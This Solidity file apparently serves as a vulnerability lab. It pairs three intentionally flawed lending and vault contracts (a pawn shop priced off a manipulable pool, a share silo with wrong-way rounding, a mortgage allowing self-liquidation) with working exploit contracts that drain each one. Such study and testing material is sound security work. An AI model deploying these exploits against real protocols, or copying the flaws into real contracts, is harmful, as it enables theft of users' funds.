// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
import "./Common.sol";

// -- price moved within a transaction ----------------------------------------------------------

contract Pool {
    Coin public immutable coin;
    constructor(Coin coin_) payable { coin = coin_; }

    function buy() external payable returns (uint256 coins) {
        uint256 held = coin.balanceOf(address(this));
        coins = held - held * (address(this).balance - msg.value) / address(this).balance;
        coin.transfer(msg.sender, coins);
    }

    function sell(uint256 coins) external returns (uint256 paid) {
        uint256 held = coin.balanceOf(address(this));
        coin.transferFrom(msg.sender, address(this), coins);
        paid = address(this).balance - address(this).balance * held / (held + coins);
        (bool ok, ) = msg.sender.call{value: paid}("");
        require(ok, "not paid");
    }

    function price() external view returns (uint256) {
        return address(this).balance * 1e18 / coin.balanceOf(address(this));
    }
}

// Lends ether against coins, at the price of one pool at this very moment.
contract PawnShop {
    address public owner;
    Coin public immutable coin;
    Pool public immutable pool;
    uint256 public percent = 60;
    uint256 public lent;
    struct Pawn { uint256 coins; uint256 debt; }
    mapping(address => Pawn) public pawns;

    constructor(Coin coin_, Pool pool_) payable { owner = msg.sender; coin = coin_; pool = pool_; }
    function fund() external payable {}

    function setPercent(uint256 percent_) external {
        require(msg.sender == owner, "not the owner");
        require(percent_ <= 80, "too much");
        percent = percent_;
    }

    function pledge(uint256 coins) external {
        require(coins > 0, "nothing");
        pawns[msg.sender].coins += coins;
        coin.transferFrom(msg.sender, address(this), coins);
    }

    function borrow(uint256 sum) external {
        Pawn storage pawn = pawns[msg.sender];
        require(pawn.debt + sum <= pawn.coins * pool.price() / 1e18 * percent / 100, "worth too little");
        require(sum <= address(this).balance, "not that much here");
        pawn.debt += sum;
        lent += sum;
        (bool ok, ) = msg.sender.call{value: sum}("");
        require(ok, "not paid");
    }

    function repay() external payable {
        Pawn storage pawn = pawns[msg.sender];
        require(msg.value <= pawn.debt, "too much");
        pawn.debt -= msg.value;
        lent -= msg.value;
    }

    function redeem(uint256 coins) external {
        Pawn storage pawn = pawns[msg.sender];
        require(coins <= pawn.coins, "not that many");
        require(pawn.debt <= (pawn.coins - coins) * pool.price() / 1e18 * percent / 100, "still owed");
        pawn.coins -= coins;
        coin.transfer(msg.sender, coins);
    }
}

contract PriceMover {
    function go(PawnShop shop, Pool pool, Coin coin, uint256 pledged) external payable {
        uint256 coins = pool.buy{value: msg.value}();
        coin.approve(address(shop), pledged);
        shop.pledge(pledged);
        shop.borrow(address(shop).balance);
        coin.approve(address(pool), coins - pledged);
        pool.sell(coins - pledged);
        payable(msg.sender).transfer(address(this).balance);
    }
    receive() external payable {}
}

// -- wrong rounding ------------------------------------------------------------------------------

// Keeps ether and counts it in shares of about a finney; who takes is rounded in the wrong direction.
contract Silo {
    address public owner;
    uint256 public stored;
    uint256 public totalShares;
    uint256 public least = 1e15;
    mapping(address => uint256) public shares;
    constructor() { owner = msg.sender; }

    function setLeast(uint256 least_) external {
        require(msg.sender == owner, "not the owner");
        least = least_;
    }

    function put() external payable returns (uint256 added) {
        require(msg.value >= least, "too little");
        added = totalShares == 0 ? msg.value / 1e15 : msg.value * totalShares / stored;
        shares[msg.sender] += added;
        totalShares += added;
        stored += msg.value;
    }

    function tip() external payable {
        require(totalShares > 0, "for nobody");
        stored += msg.value;
    }

    function take(uint256 sum) external returns (uint256 burnt) {
        burnt = sum * totalShares / stored;
        require(burnt <= shares[msg.sender], "not yours");
        shares[msg.sender] -= burnt;
        totalShares -= burnt;
        stored -= sum;
        payable(msg.sender).transfer(sum);
    }

    function give(address to, uint256 count) external {
        require(count <= shares[msg.sender], "not yours");
        shares[msg.sender] -= count;
        shares[to] += count;
    }
}

contract Nibbler {
    receive() external payable {}
    function go(Silo silo, uint256 sum, uint256 times) external payable {
        for (uint256 i = 0; i < times; i++) silo.take(sum);
        payable(msg.sender).transfer(address(this).balance);
    }
}

// -- self-liquidation ----------------------------------------------------------------------------

// Lends coins against ether. Who gives ether away is not asked whether what they owe is still covered.
contract Mortgage {
    address public owner;
    Coin public immutable coin;
    uint256 public price = 1e18;
    uint256 public reserve;
    struct Loan { uint256 ether_; uint256 owed; }
    mapping(address => Loan) public loans;
    constructor(Coin coin_) { owner = msg.sender; coin = coin_; }

    function setPrice(uint256 price_) external {
        require(msg.sender == owner, "not the owner");
        price = price_;
    }

    function deposit() external payable { loans[msg.sender].ether_ += msg.value; }

    function withdraw(uint256 sum) external {
        Loan storage loan = loans[msg.sender];
        require(sum <= loan.ether_, "not that much");
        require(_covered(loan.ether_ - sum, loan.owed), "not covered");
        loan.ether_ -= sum;
        (bool ok, ) = msg.sender.call{value: sum}("");
        require(ok, "not paid");
    }

    function borrow(uint256 coins) external {
        Loan storage loan = loans[msg.sender];
        require(_covered(loan.ether_, loan.owed + coins), "not covered");
        loan.owed += coins;
        coin.transfer(msg.sender, coins);
    }

    function repay(uint256 coins) external {
        Loan storage loan = loans[msg.sender];
        require(coins <= loan.owed, "too much");
        loan.owed -= coins;
        coin.transferFrom(msg.sender, address(this), coins);
    }

    function give(uint256 sum) external {
        Loan storage loan = loans[msg.sender];
        require(sum <= loan.ether_, "not that much");
        loan.ether_ -= sum;
        reserve += sum;
    }

    function liquidate(address who) external {
        Loan storage loan = loans[who];
        require(!_covered(loan.ether_, loan.owed), "covered");
        uint256 due = loan.ether_ * price / 1e18 < loan.owed ? loan.owed * 3 / 10 : loan.owed;
        uint256 paid = loan.ether_;
        coin.transferFrom(msg.sender, address(this), due);
        loan.ether_ = 0;
        loan.owed = 0;
        (bool ok, ) = msg.sender.call{value: paid}("");
        require(ok, "not paid");
    }

    function _covered(uint256 ether_, uint256 owed) internal view returns (bool) {
        return owed <= ether_ * price / 1e18 * 75 / 100;
    }
}

contract Liquidator {
    receive() external payable {}
    function go(Mortgage mortgage, Coin coin, address who, uint256 coins) external {
        coin.approve(address(mortgage), coins);
        mortgage.liquidate(who);
        payable(msg.sender).transfer(address(this).balance);
    }
}

contract SelfLiquidator {
    receive() external payable {}
    function go(Mortgage mortgage, Coin coin, uint256 coins, uint256 given) external payable {
        Liquidator twin = new Liquidator();
        mortgage.deposit{value: msg.value}();
        mortgage.borrow(coins);
        mortgage.give(given);
        coin.transfer(address(twin), coins);
        twin.go(mortgage, coin, address(this), coins);
        payable(msg.sender).transfer(address(this).balance);
    }
}
